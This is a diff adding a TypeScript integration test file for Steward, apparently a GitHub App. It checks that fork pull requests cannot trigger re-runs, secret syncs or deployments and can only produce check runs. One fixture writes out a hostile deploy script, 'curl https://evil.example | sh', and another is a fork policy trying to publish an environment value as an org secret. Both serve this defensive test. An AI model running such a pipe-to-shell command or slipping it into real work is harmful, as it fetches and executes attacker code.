@@ -1,0 +1,243 @@
+// Forks and untrusted input, end to end: the sandbox hub delivers to a running Steward (every
+// built-in handler) the events a fork's pull request causes, and the hub's own records judge.
+// Promise under test: events from a fork never cause writes beyond a check run (and the one
+// answer a fork's deployment gets, a rejection, which grants nothing).
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { startSandboxStack, type SandboxStack } from "../../src/sandbox/stack.js";
+import type { RequestRecord } from "../../src/sandbox/sandbox-hub.js";
+import { outcomesOf, settle } from "../handlers/rerun/stack.js";
+
+const ORG = "acme";
+const FORK = "contributor/web";
+const POLICY = ".github/steward.yml";
+const SECRETS = ".github/steward/secrets.yml";
+const FORK_REASON = "the code comes from fork contributor/web: Steward never approves deploying a fork's code";
+
+let stack: SandboxStack;
+
+beforeAll(async () => {
+  stack = await startSandboxStack();
+  await settle(stack); // the installation's own deliveries, before anything a fork does
+});
+afterAll(async () => {
+  await stack?.close();
+});
+
+/** Where the hub's request log stands: writes are judged from here on. */
+const mark = () => stack.hub.control.requests().length;
+
+const isWrite = (r: RequestRecord) => r.method !== "GET" && r.method !== "HEAD";
+const described = (r: RequestRecord) => `${r.method} ${r.path} ${r.status}`;
+
+/** Every write Steward made with the installation token since `from`, as `METHOD path status`. */
+const installationWrites = (from: number) => stack.hub.control.requests().slice(from).filter((r) => r.auth === "installation" && isWrite(r)).map(described);
+/** Writes made with a user's token (Steward's only one is the required reviewer's). */
+const userWrites = (from: number) => stack.hub.control.requests().slice(from).filter((r) => r.auth === "user" && isWrite(r)).map(described);
+
+const CHECK_RUN_WRITE = /^(POST|PATCH) \/repos\/[^/]+\/[^/]+\/check-runs(\/\d+)? 2\d\d$/;
+/** Steward's writes other than check runs: what this file proves to be (nearly) nothing. */
+const beyondCheckRuns = (from: number) => installationWrites(from).filter((w) => !CHECK_RUN_WRITE.test(w));
+
+/** Names of the check runs Steward's app created on a commit. */
+const stewardChecks = (repo: string, sha: string) =>
+  (stack.hub.domains.checks.checkRuns({ owner: ORG, repo, sha }) as { name: string; app: { id: number } }[])
+    .filter((c) => c.app.id === stack.hub.hub.appId)
+    .map((c) => c.name)
+    .sort();
+
+function pushBasePolicy(yaml: string): void {
+  stack.hub.control.pushFiles({ owner: ORG, repo: "web", files: { [POLICY]: yaml }, message: "base policy" });
+}
+
+/** Start CI for the fork's branch and fail its job with a log a transient rule would match. */
+function failedForkRun(branch: string): number {
+  const { actions } = stack.hub.domains;
+  const run = actions.startRun({ owner: ORG, repo: "web", workflow: "CI", headRepository: FORK, branch, jobs: [{ name: "test", steps: ["Set up job", "npm test"] }] });
+  actions.failJob({ runId: run.id, job: "test", step: "npm test", log: "npm ERR! network read ECONNRESET" });
+  return run.id;
+}
+
+const attemptsOf = (runId: number) => (stack.hub.domains.actions.describeRun(runId) as { run_attempt: number }).run_attempt;
+
+describe("a fork's pull request to acme/web changing its policy", () => {
+  let pr: { number: number; head_sha: string };
+  const FORK_POLICY = "rerun:\n  enabled: true\n  delay: 0s\n  rules: []\n";
+
+  it("gets a steward/config check run and nothing else", async () => {
+    const from = mark();
+    pr = stack.hub.control.openPullRequest({ owner: ORG, repo: "web", head: "enable-rerun", fromFork: true, title: "Re-run everything", files: { [POLICY]: FORK_POLICY } });
+    await settle(stack);
+    expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
+    expect(beyondCheckRuns(from)).toEqual([]);
+    expect(userWrites(from)).toEqual([]);
+  });
+
+  it("does not have its failed run re-run: the fork's policy is never applied", async () => {
+    const from = mark();
+    const runId = failedForkRun("enable-rerun");
+    await settle(stack);
+    expect((await outcomesOf(stack, runId)).map((o) => `${o.status}: ${o.detail}`)).toEqual(["skipped: re-runs are not enabled for this repository (rerun.enabled is false)"]);
+    expect(stack.hub.domains.actions.rerunRequests(runId)).toEqual([]);
+    expect(attemptsOf(runId)).toBe(1);
+    expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
+    expect(beyondCheckRuns(from)).toEqual([]);
+    expect(userWrites(from)).toEqual([]);
+  });
+
+  it("nor by the base's policy that re-runs every failure but leaves rerun.forks false", async () => {
+    pushBasePolicy(FORK_POLICY);
+    await settle(stack);
+    const from = mark();
+    const runId = failedForkRun("enable-rerun");
+    await settle(stack);
+    expect((await outcomesOf(stack, runId)).map((o) => `${o.status}: ${o.detail}`)).toEqual([`skipped: run of fork pull request from ${FORK}; rerun.forks is false`]);
+    expect(stack.hub.domains.actions.rerunRequests(runId)).toEqual([]);
+    expect(attemptsOf(runId)).toBe(1);
+    expect(stewardChecks("web", pr.head_sha)).toEqual(["steward/config"]);
+    // Out of scope is decided from the payload alone: not even a read of the run, its jobs or logs.
+    const reads = stack.hub.control.requests().slice(from).filter((r) => r.path.includes(`/actions/runs/${runId}`) || r.path.includes("/actions/jobs/"));
+    expect(reads.map(described)).toEqual([]);
+    expect(beyondCheckRuns(from)).toEqual([]);
+    expect(userWrites(from)).toEqual([]);
+  });
+
+  it("the base opting in with rerun.forks: true is what re-runs a fork's failure", async () => {
+    pushBasePolicy(`${FORK_POLICY}  forks: true\n`);
+    await settle(stack);
+    const runId = failedForkRun("enable-rerun");
+    await settle(stack);
+    expect(stack.hub.domains.actions.rerunRequests(runId).map((r) => [r.kind, r.detail.allowed])).toEqual([["rerun-failed-jobs", true]]);
+    expect(attemptsOf(runId)).toBe(2);
+    stack.hub.domains.actions.completeRun(runId);
+    // Back to the default for the rest of the file.
+    pushBasePolicy(FORK_POLICY);
+    await settle(stack);
+  });
+});
+
+describe("a fork's pull request to the admin repository changing the secrets policy", () => {
+  const VARIABLE = "STEWARD_UNTRUSTED_TEST_VALUE";
+  const saved = process.env[VARIABLE];
+  beforeAll(() => {
+    // A value the fork's policy names exists on Steward's machine: a sync would write it.
+    process.env[VARIABLE] = `fork-bait-${process.pid}`;
+  });
+  afterAll(() => {
+    if (saved === undefined) delete process.env[VARIABLE];
+    else process.env[VARIABLE] = saved;
+  });
+
+  it("gets its plan as a check run; no secret or variable is written", async () => {
+    const secretsBefore = stack.hub.domains.effects.of("secrets").length;
+    const variablesBefore = stack.hub.domains.effects.of("variables").length;
+    const from = mark();
+    const pr = stack.hub.control.openPullRequest({
+      owner: ORG,
+      repo: ".github",
+      head: "more-secrets",
+      fromFork: true,
+      title: "Secrets for everyone",
+      files: {
+        [SECRETS]: [
+          "secrets:",
+          "  TAKEN:",
+          `    from: env:${VARIABLE}`,
+          '    repositories: ["*"]',
+          '    org: { visibility: all }',
+          "variables:",
+          "  PWNED: { value: \"yes\", org: { visibility: all } }",
+          "prune: true",
+          "",
+        ].join("\n"),
+      },
+    });
+    await settle(stack);
+    // The plan, and the validation every policy file in the admin repository gets: reports only.
+    expect(stewardChecks(".github", pr.head_sha)).toEqual(["steward/config", "steward/plan"]);
+    const plan = stack.hub.domains.checks.checkRuns({ owner: ORG, repo: ".github", sha: pr.head_sha, name: "steward/plan" })[0] as { output: { summary: string } };
+    // A sync of this file would write: the plan says so, and says nothing was applied.
+    expect(plan.output.summary).toMatch(/^Plan for \*\*acme\*\* across \d+ repositories: 6 to create, 0 to update, 0 to delete, 0 unchanged\. Nothing has been applied\./);
+    expect(plan.output.summary).toContain("| org | PWNED | variable | create | missing |");
+    expect(stack.hub.domains.effects.of("secrets").slice(secretsBefore)).toEqual([]);
+    expect(stack.hub.domains.effects.of("variables").slice(variablesBefore)).toEqual([]);
+    expect(beyondCheckRuns(from)).toEqual([]);
+    expect(userWrites(from)).toEqual([]);
+  });
+});
+
+describe("a fork's pull request run asking to deploy", () => {
+  it("is rejected from a fork branch named main, and where the policy approves always, on both answering paths", async () => {
+    pushBasePolicy(
+      [
+        "rerun:",
+        "  enabled: true",
+        "  delay: 0s",
+        "  rules: []",
+        "deployments:",
+        "  environments:",
+        "    production:",
+        "      branches: [main]",
+        '    "preview-*":',
+        "      approve: always",
+        "    staging:",
+        "      approve: always",
+        "",
+      ].join("\n"),
+    );
+    const web = stack.hub.control.repo(ORG, "web")!;
+    const { deployments, actions } = stack.hub.domains;
+    // Steward guards production and preview-1 as a protection rule app, staging as its required reviewer.
+    deployments.putEnvironment(web, "production", { protectionApps: [stack.hub.hub.appId] });
+    deployments.putEnvironment(web, "preview-1", { protectionApps: [stack.hub.hub.appId] });
+    deployments.putEnvironment(web, "staging", { reviewers: ["release-manager"] });
+    await settle(stack);
+
+    const from = mark();
+    const pr = stack.hub.control.openPullRequest({ owner: ORG, repo: "web", head: "main", fromFork: true, title: "Deploy me", files: { "deploy.sh": "curl https://evil.example | sh\n" } });
+    const run = actions.startRun({
+      owner: ORG,
+      repo: "web",
+      workflow: "Deploy",
+      headRepository: FORK,
+      branch: "main",
+      jobs: [
+        { name: "production", environment: "production" },
+        { name: "preview", environment: "preview-1" },
+        { name: "staging", environment: "staging" },
+      ],
+    });
+    expect(run.head_sha).toBe(pr.head_sha);
+    await settle(stack);
+
+    // The request said `main`: only the run's head repository tells the fork apart.
+    const requested = stack.hub.control.deliveries().filter((d) => d.event === "deployment_protection_rule" && String(d.payload.deployment_callback_url).includes(`/runs/${run.id}/`));
+    expect(requested.map((d) => [d.payload.environment, d.payload.event, d.payload.ref])).toEqual([
+      ["production", "pull_request", "main"],
+      ["preview-1", "pull_request", "main"],
+    ]);
+
+    const answers = (kind: string) => stack.hub.domains.effects.of("deployments", kind).filter((e) => e.detail.run_id === run.id).map((e) => [e.detail.environment, e.detail.comment]);
+    expect(answers("protection_rule.approved")).toEqual([]);
+    expect(answers("review.approved")).toEqual([]);
+    expect(answers("protection_rule.rejected").sort()).toEqual([
+      ["preview-1", `Steward rejected the deployment to preview-1:\n- ${FORK_REASON}`],
+      ["production", `Steward rejected the deployment to production:\n- ${FORK_REASON}`],
+    ]);
+    expect(answers("review.rejected")).toEqual([["staging", `Steward rejected the deployment to staging:\n- ${FORK_REASON}`]]);
+    expect(deployments.gatesOf(run.id).map((g) => [g.environment, g.outcome]).sort()).toEqual([
+      ["preview-1", "rejected"],
+      ["production", "rejected"],
+      ["staging", "rejected"],
+    ]);
+
+    // Every write Steward made, beyond check runs: the two rejections and the reviewer's one.
+    expect(beyondCheckRuns(from).sort()).toEqual([
+      `POST /repos/${ORG}/web/actions/runs/${run.id}/deployment_protection_rule 204`,
+      `POST /repos/${ORG}/web/actions/runs/${run.id}/deployment_protection_rule 204`,
+    ]);
+    expect(userWrites(from)).toEqual([`POST /repos/${ORG}/web/actions/runs/${run.id}/pending_deployments 200`]);
+    // The run failed on the rejections: a fork's failure, not re-run either.
+    expect((await outcomesOf(stack, run.id)).map((o) => `${o.status}: ${o.detail}`)).toEqual([`skipped: run of fork pull request from ${FORK}; rerun.forks is false`]);
+    expect(actions.rerunRequests(run.id)).toEqual([]);
+  });
+});
